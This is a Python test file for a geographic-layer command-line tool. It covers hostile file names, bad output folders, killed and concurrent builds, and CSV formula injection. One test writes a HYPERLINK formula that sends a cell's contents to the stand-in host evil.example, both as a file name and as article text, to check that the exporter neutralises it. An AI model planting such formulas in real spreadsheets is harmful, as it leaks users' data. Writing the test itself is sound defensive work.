"""Hostile input to the command line and the exports (issue #9): odd paths, bad --out,
builds killed or run side by side, formula cells in CSV, reproducible GeoPackages."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyogrio
import pytest

from layers.build import LAYER_NAMES, build_layers
from tests.builtin import BUILT_IN
from atlas_cli.main import main

ROOT = Path(__file__).resolve().parent.parent
OUTPUT_NAMES = (*(f"{name}.geojson" for name in LAYER_NAMES), "all_layers.geojson", "layers.gpkg", "case.json")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# A build that kills itself with SIGKILL at its n-th write: a GDAL write (after writing
# half of the rows, as if killed mid-file) or a rename into the output folder.
KILLED_BUILD = """
import os, signal, sys
import pyogrio
from atlas_cli.main import main

kill_at, out = int(sys.argv[1]), sys.argv[2]
writes = 0

def killing(write):
    def wrapped(*args, **kwargs):
        global writes
        writes += 1
        if writes == kill_at:
            if write is write_dataframe:
                write(args[0].iloc[: len(args[0]) // 2], *args[1:], **kwargs)
            os.kill(os.getpid(), signal.SIGKILL)
        return write(*args, **kwargs)
    return wrapped

write_dataframe = pyogrio.write_dataframe
pyogrio.write_dataframe = killing(pyogrio.write_dataframe)
os.replace = killing(os.replace)
sys.exit(main(["build", "--out", out]))
"""


def _cli(*args: str | bytes) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "atlas_cli.main", *args], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def _run(*args: str | bytes) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "atlas_cli.main", *args], cwd=ROOT, capture_output=True)


def _feature_counts(folder: Path) -> dict[str, int]:
    """Features per output file (per layer for the GeoPackage); fails on a broken file."""
    counts = {}
    for name in OUTPUT_NAMES:
        if name.endswith(".geojson"):
            counts[name] = len(json.loads((folder / name).read_text(encoding="utf-8"))["features"])
    counts["case.json"] = len(json.loads((folder / "case.json").read_text(encoding="utf-8"))["reports"])
    gpkg = folder / "layers.gpkg"
    assert [layer for layer, _ in pyogrio.list_layers(gpkg)] == list(LAYER_NAMES)
    for layer in LAYER_NAMES:
        counts[f"layers.gpkg:{layer}"] = pyogrio.read_info(gpkg, layer=layer)["features"]
    return counts


def _temporary_files(folder: Path) -> list[str]:
    return [entry.name for entry in folder.iterdir() if entry.name.endswith(".tmp")]


@pytest.fixture(scope="module")
def reference(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("reference")
    assert main(["build", "--out", str(out)]) == 0
    return out


@pytest.mark.parametrize("command", ["places", "claims"])
def test_an_error_about_a_non_utf8_file_name_with_control_characters_is_one_printable_line(
        tmp_path: Path, command: str) -> None:
    missing = os.fsencode(tmp_path) + b"/x\xff\nb\x1b[31m.txt"
    result = _run(command, missing)
    assert result.returncode == 2
    stderr = result.stderr.decode("utf-8")  # strict: every byte printed is UTF-8
    [line] = stderr.splitlines()
    assert line.startswith("incident-atlas: error: ") and "no such file" in line
    assert "\x1b" not in line and "Traceback" not in stderr


def test_build_into_a_non_utf8_folder_prints_every_written_path_on_one_line(tmp_path: Path) -> None:
    out = os.fsencode(tmp_path) + b"/out\xff\nput"
    result = _run("build", "--out", out)
    assert result.returncode == 0, result.stderr.decode("utf-8", "replace")
    lines = result.stdout.decode("utf-8").splitlines()
    assert [line.rsplit("/", 1)[1] for line in lines] == list(OUTPUT_NAMES)
    assert all("out\\xff\\nput" in line for line in lines)
    assert {os.fsdecode(name) for name in os.listdir(out)} >= set(OUTPUT_NAMES)


@pytest.mark.parametrize("case", ["a file", "under a file", "a read-only place", "inside /proc",
                                  "a folder where a layer file goes"])
def test_a_bad_out_gets_one_line_and_exit_2_and_keeps_what_was_there(
        tmp_path: Path, reference: Path, case: str) -> None:
    a_file = tmp_path / "notes.txt"
    a_file.write_text("mine\n")
    out = {"a file": a_file, "under a file": a_file / "out", "a read-only place": Path("/sys/incident-atlas"),
           "inside /proc": Path("/proc/1/incident-atlas"), "a folder where a layer file goes": tmp_path / "out"}[case]
    if not Path("/", out.parts[1]).is_dir():
        pytest.skip(f"no /{out.parts[1]} on this system")
    if case == "a folder where a layer file goes":
        shutil.copytree(reference, out)
        (out / "places.geojson").unlink()
        (out / "places.geojson").mkdir()
    before = {entry: entry.read_bytes() for entry in tmp_path.rglob("*") if entry.is_file()}
    result = _run("build", "--out", str(out))
    stderr = result.stderr.decode("utf-8")
    assert result.returncode == 2 and result.stdout == b"" and "Traceback" not in stderr
    [line] = stderr.splitlines()
    assert line.startswith("incident-atlas: error: cannot write ")
    assert "choose a folder" in line or "move it away" in line  # what to do about it
    assert {entry: entry.read_bytes() for entry in tmp_path.rglob("*") if entry.is_file()} == before


def test_a_build_killed_at_any_write_leaves_every_output_file_complete(
        tmp_path: Path, reference: Path) -> None:
    expected = _feature_counts(reference)
    kill_points = (1, 4, 8, 9, 12, 14, 15, 16, 19, 23, 24, 25)
    folders = {kill_at: tmp_path / f"killed_at_{kill_at}" for kill_at in kill_points}
    builds = {}
    for kill_at, folder in folders.items():
        shutil.copytree(reference, folder)  # the files of an earlier build are there to lose
        builds[kill_at] = subprocess.Popen([sys.executable, "-c", KILLED_BUILD, str(kill_at), str(folder)],
                                           cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    for kill_at, build in builds.items():
        _, stderr = build.communicate(timeout=120)
        assert build.returncode in (-9, 0), stderr.decode("utf-8", "replace")
        assert _feature_counts(folders[kill_at]) == expected, f"killed at write {kill_at}"
    killed = folders[16]
    assert main(["build", "--out", str(killed)]) == 0
    assert _feature_counts(killed) == expected and _temporary_files(killed) == []


def test_concurrent_builds_into_one_folder_each_leave_complete_files(tmp_path: Path, reference: Path) -> None:
    out = tmp_path / "out"
    builds = [_cli("build", "--out", str(out)) for _ in range(3)]
    for build in builds:
        _, stderr = build.communicate(timeout=120)
        assert build.returncode == 0, stderr.decode("utf-8", "replace")
    assert _feature_counts(out) == _feature_counts(reference)
    assert _temporary_files(out) == []


def test_a_build_removes_the_files_of_layers_it_no_longer_writes_and_nothing_else(tmp_path: Path) -> None:
    from layers.export import write_layers

    layers = build_layers([], BUILT_IN)
    write_layers({**layers, "retired": layers["stops"]}, tmp_path)
    (tmp_path / "mine.geojson").write_text("{}")
    (tmp_path / "notes.txt").write_text("mine")
    written = write_layers(layers, tmp_path)
    names = {entry.name for entry in tmp_path.iterdir() if not entry.name.startswith(".")}
    assert names == {path.name for path in written} | {"mine.geojson", "notes.txt"}
    assert "retired.geojson" not in names


def test_two_builds_of_the_same_input_are_byte_identical(tmp_path: Path, reference: Path) -> None:
    assert main(["build", "--out", str(tmp_path)]) == 0
    for name in OUTPUT_NAMES:
        assert (tmp_path / name).read_bytes() == (reference / name).read_bytes(), name


def test_the_claims_csv_neutralises_formula_cells_from_file_names_and_sentences(tmp_path: Path) -> None:
    article = tmp_path / '=HYPERLINK("evil.example","x").txt'
    article.write_text('=HYPERLINK("http://evil.example/?q="&A1,"see") At least 26 hostages were killed, '
                       "the army said.\n@SUM(1+1) Militants freed 100 passengers.\n", encoding="utf-8")
    result = _run("claims", str(article))
    assert result.returncode == 0, result.stderr.decode("utf-8", "replace")
    rows = list(csv.DictReader(io.StringIO(result.stdout.decode("utf-8"))))
    assert rows
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    assert {row["article"] for row in rows} == {"'" + article.name}
    assert {row["sentence"][:5] for row in rows} <= {"'=HYP", "'@SUM"}
    assert all(row["start"].isdigit() for row in rows)  # numbers are left alone


def test_csv_text_neutralises_text_cells_and_keeps_numbers_numbers() -> None:
    from layers.csv_export import csv_text, neutralise_cell

    frame = pd.DataFrame({
        "name": ["=1+2", "+cmd", "-x", "@SUM(A1)", "\tTab", "\rCR", "plain", None],
        "lon": [-70.5, 67.0, -0.25, 1.0, 2.0, 3.0, 4.0, 5.0],
        "count": pd.array([-3, None, 1, 2, 3, 4, 5, 6], dtype="Int64"),
        "mixed": [-2, "=x", 3.5, "ok", "a\r=b", "", None, "-1"],
    })
    text = csv_text(frame)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 9 and text.endswith("\n") and "\r\n" not in text
    assert [row[0] for row in rows[1:]] == ["'=1+2", "'+cmd", "'-x", "'@SUM(A1)", "'\tTab", "'\rCR", "plain", ""]
    assert [row[3] for row in rows[1:]] == ["-2", "'=x", "3.5", "ok", "a\r=b", "", "", "'-1"]
    assert text.splitlines()[1].split(",")[1:3] == ["-70.5", "-3"]  # numbers stay bare numbers
    back = pd.read_csv(io.StringIO(text))
    assert back["lon"].tolist() == frame["lon"].tolist()
    assert neutralise_cell(-1.5) == -1.5 and neutralise_cell("=A1") == "'=A1" and neutralise_cell("a=b") == "a=b"
